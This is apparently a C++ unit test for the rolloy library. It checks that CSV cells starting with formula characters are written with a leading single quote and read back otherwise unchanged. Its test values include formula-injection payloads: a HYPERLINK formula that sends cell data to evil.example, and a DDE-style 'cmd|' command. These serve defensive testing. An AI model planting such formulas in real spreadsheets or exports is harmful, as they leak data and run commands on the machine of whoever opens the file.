// What rolloy::csv writes reads back through rolloy's own RFC 4180 reader as the same cells, a
// formula-leading value with its single quote in front and nothing else changed.
#include "core/common/csv_cell.hpp"
#include "core/import/csv_reader.hpp"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace rolloy {
namespace {

TEST(CsvCellRoundTrip, ReadsBackTheCellsWithFormulasNeutralised) {
    const std::vector<std::string> values = {
        "Park walk", "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
        "+1",        "-1+cmd|'/c calc'!A0",
        "@SUM(A1)",  "\t=1",
        "\r=1",      "a,b \"c\"\r\nd",
        "",          "x=y"};
    std::string text;
    for (const std::string &v : values)
        csv::append_row(text, {"img.jpg", v});
    import::CsvReader reader(text, ',');
    import::CsvRecord record;
    for (const std::string &v : values) {
        ASSERT_TRUE(reader.next(record)) << v;
        ASSERT_EQ(record.fields.size(), 2u) << v;
        EXPECT_EQ(record.fields[0], "img.jpg");
        EXPECT_EQ(std::string(record.fields[1]), csv::starts_formula(v) ? "'" + v : v);
    }
    EXPECT_FALSE(reader.next(record));
}

} // namespace
} // namespace rolloy
